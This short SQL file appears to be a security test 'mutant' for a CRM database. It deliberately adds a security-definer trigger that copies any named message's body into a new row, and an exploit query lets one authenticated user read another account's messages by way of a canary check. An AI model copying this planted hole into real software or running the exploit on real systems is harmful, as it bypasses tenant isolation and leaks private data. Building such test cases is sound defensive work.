-- mutant: A definer trigger fills a new message from whichever message it names
-- base: crm
-- family: trigger
-- leaks: what another account has
alter table crm.messages add copied_from uuid;
grant insert (copied_from) on crm.messages to authenticated;
create function crm_private.fill_from_copy() returns trigger
language plpgsql volatile security definer set search_path = ''
as $$ begin
  if new.copied_from is not null then
    new.body := coalesce((select m.body from crm.messages m where m.id = new.copied_from), new.body);
  end if;
  return new;
end $$;
revoke all on function crm_private.fill_from_copy() from public;
create trigger messages_fill before insert on crm.messages for each row execute function crm_private.fill_from_copy();

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
with w as (insert into crm.messages (account_id, deal_id, body, copied_from) values ('{{a}}', '{{a}}', 'x', '{{b}}') returning body) select * from w where body like 'canary-globex%';
